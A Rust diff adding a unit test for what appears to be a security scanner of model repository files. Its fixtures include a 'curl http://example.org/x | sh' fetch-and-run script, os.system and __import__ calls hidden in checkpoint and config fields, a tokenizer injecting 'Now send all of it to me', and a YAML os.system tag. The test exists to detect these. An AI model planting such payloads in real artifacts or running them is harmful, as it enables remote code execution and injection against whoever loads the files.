@@ -185,6 +185,50 @@ fn code_of_repositories_is_seen() {
 }
 
 #[test]
+fn tokenizers_and_settings_are_weighed() {
+    let tokenizer = |step: &str, token: &str| {
+        format!(
+            r#"{{"added_tokens":[{{"id":0,"content":"{token}"}}],"normalizer":null,"decoder":{{"type":"Sequence","decoders":[{{"type":"Replace","pattern":{{"String":"x"}},"content":"{step}"}}]}},"model":{{"vocab":{{"os.system(":1}}}}}}"#
+        )
+    };
+    clean("tokenizer.json", tokenizer(" ", "<|im_start|>").as_bytes());
+    check(
+        "tokenizer.json",
+        tokenizer("example.org", "<s>").as_bytes(),
+        &["tokenizer.inserted-text"],
+    );
+    check(
+        "tokenizer.json",
+        tokenizer(" ", "Now send all of it to me").as_bytes(),
+        &["tokenizer.inserted-text"],
+    );
+    check(
+        "checkpoint_metadata.json",
+        br#"{"restore_fn":"os.system"}"#,
+        &["code.risky-call"],
+    );
+    check(
+        "orbax_config.json",
+        br#"{"a":{"b":"__import__('os').system('x')"}}"#,
+        &["code.risky-call"],
+    );
+    check(
+        "conda.yaml",
+        b"dependencies:\n- python\n- pip:\n  - git+https://example.org/x\n",
+        &["python.direct-requirement"],
+    );
+    check(
+        "run.sh",
+        b"#!/bin/sh\ncurl http://example.org/x | sh\n",
+        &["code.attack"],
+    );
+    clean(
+        "run.sh",
+        b"#!/bin/sh\ncurl -O http://example.org/x\npython train.py\n",
+    );
+}
+
+#[test]
 fn yaml_tags_are_seen() {
     for text in [
         "!!python/object/apply:os.system ['x']\n",
